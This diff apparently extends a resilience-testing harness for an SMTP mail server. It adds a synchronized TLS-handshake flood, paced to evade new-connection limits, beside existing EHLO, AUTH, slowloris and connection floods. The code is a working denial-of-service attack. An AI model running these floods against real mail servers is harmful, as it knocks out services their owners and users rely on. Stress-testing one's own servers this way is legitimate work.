@@ -16,7 +16,7 @@ import sys
 import threading
 import time
 from collections.abc import Callable
-from contextlib import suppress
+from contextlib import ExitStack, suppress
 from functools import partial
 
 from attrs import define, field
@@ -118,18 +118,60 @@ def reconnect(server: Address, source: str) -> None:
             connect(server, source).close()
 
 
-def log_in(connections: int, server: Address, source: str) -> None:
-    """Try passwords over TLS, on a number of connections."""
+def tls_context() -> ssl.SSLContext:
+    """Return a context that accepts any certificate."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    return context
+
+
+def ask_for_tls(sock: socket.socket) -> None:
+    """Send STARTTLS, and wait for the reply."""
+    sock.recv(1000)
+    for command in (HELLO, b"STARTTLS\r\n"):
+        sock.sendall(command)
+        sock.recv(1000)
+
+
+def shake_hands(connections: int, server: Address, source: str) -> None:
+    """Do TLS handshakes, in waves: all of a number of connections begin them at the same time.
+
+    There is one wave in a second, or the limit of new connections would soon end the attack.
+    """
+    context = tls_context()
+    barrier = threading.Barrier(connections)
+
+    def attempt() -> None:
+        with ExitStack() as stack:
+            sock = None
+            with suppress(OSError):
+                sock = stack.enter_context(connect(server, source))
+                ask_for_tls(sock)
+            barrier.wait()
+            if sock is not None:
+                with suppress(OSError):
+                    context.wrap_socket(sock).close()
+
+    def repeat() -> None:
+        while True:
+            began = time.monotonic()
+            attempt()
+            time.sleep(max(0.0, began + 1 - time.monotonic()))
+
+    for _ in range(connections):
+        threading.Thread(target=repeat, daemon=True).start()
+    while True:
+        time.sleep(60)
+
+
+def log_in(connections: int, server: Address, source: str) -> None:
+    """Try passwords over TLS, on a number of connections."""
+    context = tls_context()
     plain = b"AUTH PLAIN " + base64.b64encode(b"\0fred\0wrong") + b"\r\n"
 
     def attempt() -> None:
         with connect(server, source) as sock:
-            sock.recv(1000)
-            for command in (HELLO, b"STARTTLS\r\n"):
-                sock.sendall(command)
-                sock.recv(1000)
+            ask_for_tls(sock)
             with context.wrap_socket(sock) as stream:
                 stream.sendall(HELLO)
                 stream.recv(1000)
@@ -159,6 +201,7 @@ KINDS: dict[str, list[Attack]] = {
     "EHLO flood, 20 connections": [partial(flood, HELLO, HELLO, 20)],
     "malformed MAIL flood, 20 connections": [partial(flood, HELLO, MALFORMED, 20)],
     "AUTH flood, 20 connections": [partial(log_in, 20)],
+    "TLS handshakes, 20 connections": [partial(shake_hands, 20)],
     "large messages, 8 connections": [partial(flood, HELLO, MESSAGE, 8)],
     "2,000 slowloris sessions": [partial(slowloris, 2000)],
     "connection flood": [reconnect, reconnect],
